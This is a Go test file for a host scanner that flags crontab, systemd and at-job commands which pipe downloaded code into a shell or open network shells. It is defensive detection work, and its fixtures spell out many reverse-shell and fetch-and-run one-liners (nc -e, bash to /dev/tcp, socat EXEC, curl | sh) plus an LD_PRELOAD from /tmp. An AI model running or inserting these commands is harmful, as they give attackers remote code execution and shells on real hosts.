package jobs

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"isoscan/internal/host/hosttest"
)

// TestBehaviourOfCommands holds what shells do with the commands of crontabs.
func TestBehaviourOfCommands(t *testing.T) {
	cases := map[string]Behaviour{
		// Code from the network.
		`curl -fsSL http://x/i | sh`:                                      {Fetches: []string{"curl into sh"}},
		`/usr/bin/wget -qO- http://x/i | sudo -u root bash -s -- --quiet`: {Fetches: []string{"wget into bash"}},
		`curl x | base64 -d | python3 -`:                                  {Fetches: []string{"curl into python3"}},
		`(curl x || wget -qO - x) | sh`:                                   {Fetches: []string{"wget into sh"}},
		`sh -c "$(curl -fsSL x)"`:                                         {Fetches: []string{"curl into sh"}},
		`bash -euo pipefail -c 'curl x | bash'`:                           {Fetches: []string{"curl into bash"}},
		`bash <(curl -s x)`:                                               {Fetches: []string{"curl into bash"}},
		`bash < <(curl -s x)`:                                             {Fetches: []string{"curl into bash"}},
		`bash <<< "$(curl -s x)"`:                                         {Fetches: []string{"curl into bash"}},
		"eval `wget -qO- x`":                                              {Fetches: []string{"wget into eval"}},
		`. <(curl x)`:                                                     {Fetches: []string{"curl into ."}},
		`$(curl x)`:                                                       {Fetches: []string{"curl into the shell"}},
		`cd /tmp && wget http://x/run.sh && sh run.sh`:                    {Fetches: []string{"wget to a file that sh runs"}},
		`curl -so /tmp/a http://x; chmod +x /tmp/a; /tmp/a`:               {Fetches: []string{"curl to a file that is run"}},
		`X=$(curl x | sh)`:                                                {Fetches: []string{"curl into sh"}},
		`fetch -o - x | perl`:                                             {Fetches: []string{"fetch into perl"}},
		`su - app -c 'curl x | sh'`:                                       {Fetches: []string{"curl into sh"}},
		// A shell for the network.
		`nc -e /bin/sh 192.0.2.1 4444`:                                                {Doors: []string{"nc -e sh"}},
		`nc -lnvp 4444 -e/bin/bash`:                                                   {Doors: []string{"nc -e bash"}},
		`nc.traditional -l -p 4444 -c "/bin/bash -i"`:                                 {Doors: []string{"nc.traditional -e bash"}},
		`ncat --listen --exec "/bin/bash -i" 4444`:                                    {Doors: []string{"ncat -e bash"}},
		`ncat -l 4444 --sh-exec=bash`:                                                 {Doors: []string{"ncat -e bash"}},
		`busybox nc -ll -p 4444 -e /bin/sh -i`:                                        {Doors: []string{"nc -e sh"}},
		`socat TCP-LISTEN:4444,reuseaddr,fork EXEC:"bash -li",pty,stderr`:             {Doors: []string{"socat EXEC:bash"}},
		`socat exec:'bash -i' tcp:192.0.2.1:1`:                                        {Doors: []string{"socat EXEC:bash"}},
		`socat OPENSSL:192.0.2.1:443 SYSTEM:/bin/sh`:                                  {Doors: []string{"socat EXEC:sh"}},
		`bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`:                                     {Doors: []string{"bash to /dev/tcp"}},
		`bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'`:                           {Doors: []string{"bash to /dev/tcp"}},
		`exec 196<>/dev/tcp/192.0.2.1/1; sh <&196 >&196 2>&196`:                       {Doors: []string{"sh to /dev/tcp"}},
		`rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f`: {Doors: []string{"sh into nc"}},
		`nc 192.0.2.1 4444 | bash`:                                                    {Doors: []string{"nc into bash"}},
		// What is no finding.
		`curl -fsS https://x/ping > /dev/null`:                {},
		`curl -s x | python3 -m json.tool`:                    {},
		`curl -s x | python3 -c 'import json,sys'`:            {},
		`curl -s x | jq . | sh /opt/handle.sh`:                {},
		`curl -s x | sh -c 'cat > /var/lib/list'`:             {},
		`curl x -o /var/lib/list; sh /opt/other.sh`:           {},
		`echo "curl x | sh"`:                                  {},
		`logger 'nc -e /bin/sh'`:                              {},
		`curl x || sh /opt/fallback.sh`:                       {},
		`bash -c "echo $(curl -s x) >> /var/log/address"`:     {},
		`nc -z 192.0.2.1 22`:                                  {},
		`nc -c mail.example.org 993`:                          {},
		`ncat -l 8080 --exec /usr/local/bin/answer`:           {},
		`tar c /srv | nc 192.0.2.1 9000`:                      {},
		`sh /opt/dump.sh | nc 192.0.2.1 9000`:                 {},
		`socat TCP-LISTEN:80,fork TCP:192.0.2.1:80`:           {},
		`socat TCP-LISTEN:80,fork EXEC:/usr/local/bin/answer`: {},
		`socat TCP-LISTEN:80,fork SYSTEM:"sh /opt/answer.sh"`: {},
		`socat UNIX-LISTEN:/run/s,fork PTY,link=/dev/modem`:   {},
		`echo > /dev/tcp/127.0.0.1/80`:                        {},
		`PATH=/opt tar x`:                                     {},
		`find /tmp -type f -exec rm {} +`:                     {},
		`$TOOL --run`:                                         {Why: "a variable or the output of a command is the command"},
		`bash -c "$LATER"`:                                    {Why: "a variable or the output of a command is the command"},
		`case $x in a) curl x | sh;; esac`:                    {Fetches: []string{"curl into sh"}, Why: "the command uses case"},
		`sh "`:                                                {Why: "a quote is not closed"},
		`cat <<EOF; curl x | sh`:                              {Why: "the command reads a here document"},
	}
	for line, want := range cases {
		if want.Doors == nil {
			want.Doors = []string{}
		}
		if want.Fetches == nil {
			want.Fetches = []string{}
		}
		if d := cmp.Diff(&want, shellText(line)); d != "" {
			t.Errorf("%s: (-want +got)\n%s", line, d)
		}
	}
}

func TestBehaviourOfJobsAndUnits(t *testing.T) {
	f, gaps := gather(t, tree(t,
		hosttest.File{Path: "/etc/systemd/system/a.service", Content: "[Service]\nExecStart=-/bin/bash -c \"$(curl -s x)\"\nExecStartPre=/usr/bin/ncat -l -e /bin/sh 1\n"},
		hosttest.File{Path: "/etc/systemd/system/b@.service", Content: "[Service]\nStandardInput=socket\nExecStart=/bin/bash -i\n"},
		hosttest.File{Path: "/etc/systemd/system/c.service", Content: "[Service]\nEnvironmentFile=-/etc/default/c\nEnvironment=\"LD_PRELOAD=/tmp/x.so libgood.so\" A=b\n" +
			"ExecStart=/usr/bin/env LD_LIBRARY_PATH=/opt/lib: /bin/tar %i\n"},
		hosttest.File{Path: "/etc/systemd/system/d.service", Content: "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\nEnvironment=\nEnvironmentFile=/etc/default/*\nExecStart=/bin/tar\n"},
		hosttest.File{Path: "/etc/default/c", Content: "# LD_AUDIT=/no\nLD_AUDIT=\"/home/a.so\"\n"},
		hosttest.File{Path: "/etc/cron.daily/get", Content: "#!/bin/sh\n# don't\ncase a in esac\ncurl x |\n  sh\n", Mode: 0o755},
		hosttest.File{Path: "/etc/cron.daily/py", Content: "#!/usr/bin/python3\ncurl x | sh\n", Mode: 0o755},
		hosttest.File{Path: "/etc/crontab", Content: "SHELL=/usr/bin/python3\n* * * * * root print\n"},
		hosttest.File{Path: "/var/spool/cron/atjobs/a0000101c2f3a4", UID: 1001, Mode: 0o700,
			Content: "#!/bin/sh\numask 22\ncd /root || {\n echo 'gone' >&2\n exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1a2b'\ncurl x | sh\nmarcinDELIMITER1a2b\n"},
		hosttest.File{Path: "/var/spool/at/a0000201c2f3a4", Content: "#!/bin/sh\nnc -e /bin/sh 192.0.2.1 1\n", Mode: 0o700},
		hosttest.File{Path: "/tmp", Mode: 0o1777 | 1<<31},
	))
	if len(gaps) > 0 {
		t.Error(gaps)
	}
	doors, fetches := []string{"ncat -e sh"}, []string{"curl into the shell"}
	none := []string{}
	for name, check := range map[string]struct{ got, want *Behaviour }{
		"a":    {f.Units["a.service"].Does, &Behaviour{Doors: doors, Fetches: fetches}},
		"b":    {f.Units["b@.service"].Does, &Behaviour{Doors: []string{"bash on the unit's socket"}, Fetches: none}},
		"part": {f.Jobs["/etc/cron.daily/get"].Does, &Behaviour{Doors: none, Fetches: []string{"curl into sh in /etc/cron.daily/get"}}},
		"py":   {f.Jobs["/etc/cron.daily/py"].Does, &Behaviour{Doors: none, Fetches: none}},
		"tab":  {f.Jobs["/etc/crontab:2"].Does, &Behaviour{Doors: none, Fetches: none, Why: "the table's shell is /usr/bin/python3"}},
		"at":   {f.At["/var/spool/cron/atjobs/a0000101c2f3a4"].Does, &Behaviour{Doors: none, Fetches: []string{"curl into sh"}}},
		"at 2": {f.At["/var/spool/at/a0000201c2f3a4"].Does, &Behaviour{Doors: []string{"nc -e sh"}, Fetches: none}},
	} {
		if d := cmp.Diff(check.want, check.got); d != "" {
			t.Errorf("%s: (-want +got)\n%s", name, d)
		}
	}
	want := map[string]Library{
		"/tmp/x.so":  {Variable: "LD_PRELOAD", Told: true, Weak: []string{"/tmp is writable by everybody"}, Source: "/etc/systemd/system/c.service:3"},
		"libgood.so": {Variable: "LD_PRELOAD", Told: true, Weak: []string{}, Source: "/etc/systemd/system/c.service:3"},
		"/home/a.so": {Variable: "LD_AUDIT", Told: true, Weak: []string{}, Source: "/etc/default/c:2"},
		"/opt/lib":   {Variable: "LD_LIBRARY_PATH", Told: true, Weak: []string{}, Source: "/etc/systemd/system/c.service:4"},
		".":          {Variable: "LD_LIBRARY_PATH", Told: true, Weak: []string{}, Source: "/etc/systemd/system/c.service:4"},
	}
	if d := cmp.Diff(want, f.Units["c.service"].Loader); d != "" {
		t.Error(d)
	}
	want = map[string]Library{"/etc/default/*": {Variable: "EnvironmentFile", Weak: []string{}, Source: "/etc/systemd/system/d.service"}}
	if d := cmp.Diff(want, f.Units["d.service"].Loader); d != "" {
		t.Error(d)
	}
}

func FuzzBehaviour(f *testing.F) {
	f.Add(`sh -c "$(curl x)" | nc -e sh 1 <(wget y) > z; socat TCP:1 EXEC:'bash -i'`)
	f.Fuzz(func(t *testing.T, line string) {
		if shellText(line) == nil {
			t.Error("nothing is told")
		}
	})
}
